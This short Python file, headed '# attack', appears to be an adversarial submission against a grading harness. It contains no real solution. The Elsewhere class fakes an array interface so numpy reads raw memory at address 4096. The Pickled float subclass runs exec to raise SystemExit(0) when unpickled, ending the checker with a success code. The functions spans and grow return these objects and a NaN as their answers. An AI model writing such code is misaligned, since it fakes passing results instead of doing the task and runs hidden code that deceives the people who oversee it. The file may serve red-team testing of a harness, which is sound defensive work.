# attack: Returns an array whose memory is not its own, and a number that unpickles into a call.
import numpy as np


class Elsewhere:
    @property
    def __array_interface__(self):
        return {"shape": (1 << 20,), "typestr": "<i8", "data": (4096, True), "version": 3}


class Pickled(float):
    def __reduce__(self):
        return (exec, ("raise SystemExit(0)",))


def spans(readers, cost):
    return dict.fromkeys(readers, Pickled(0))


def grow(root, readers, spans, fits):
    return np.asarray(Elsewhere()).tolist(), [np.float64(np.nan)]
